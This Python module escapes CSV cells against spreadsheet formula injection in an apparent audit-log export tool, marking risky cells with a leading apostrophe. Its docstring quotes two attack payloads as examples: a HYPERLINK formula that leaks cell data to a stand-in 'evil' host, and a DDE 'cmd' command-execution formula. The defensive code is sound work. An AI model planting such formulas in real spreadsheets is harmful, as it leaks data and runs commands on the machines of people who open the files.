"""CSV cells a spreadsheet shows as text, never runs as formulas.

Audit records hold text a model wrote (arguments, results, error messages). A cell
that a spreadsheet reads as a formula (``=HYPERLINK("http://evil/?"&A1)``,
``=cmd|' /C calc'!A0``) runs when an auditor opens the export. Excel, LibreOffice and
Google Sheets start a formula at ``=``, ``+``, ``-`` or ``@``, also after leading
spaces or quote marks they skip, also in the full-width and small forms an East
Asian input method types (``＝``, ``﹦``), and a cell beginning with a tab or a
carriage return is re-read as one beginning with what follows. Such a cell gets a
leading apostrophe, the spreadsheets' own "this is text" mark (OWASP's advice); a
plain number (``-5``, ``+3.25``) is left alone, since a sum of it is no formula.

One rule for every CSV the project writes: ``reach audit export --format csv`` and
the console's "Export CSV" both call :func:`cell`.
"""

from __future__ import annotations

import json
import re
import unicodedata
from typing import Any

__all__ = ["TRIGGERS", "cell", "dangerous"]

TRIGGERS = frozenset("=+-@")
_START = frozenset("\t\r\n")
# what spreadsheets skip before deciding a cell is a formula: spaces of every width and quote marks
_SKIPPED = re.compile(r"[\s\u00a0\u2000-\u200b\u3000\ufeff\"'`\u2018\u2019\u201c\u201d\uff02\uff07]*")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def dangerous(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (or a line break into one)."""
    if not text:
        return False
    if text[0] in _START:
        return True
    rest = text[_SKIPPED.match(text).end():]  # type: ignore[union-attr]  # the pattern matches "" at least
    if not rest:
        return False
    first = unicodedata.normalize("NFKC", rest[0])[:1]
    if first == "\u2212":  # MINUS SIGN: LibreOffice reads it as "-"
        first = "-"
    if first not in TRIGGERS:
        return False
    return not (rest is text and _NUMBER.fullmatch(text))


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: None is empty, numbers stay numbers, objects are compact JSON,
    and text a spreadsheet would run is marked as text with a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False, default=str,
                                                            separators=(",", ":"))
    return "'" + text if dangerous(text) else text
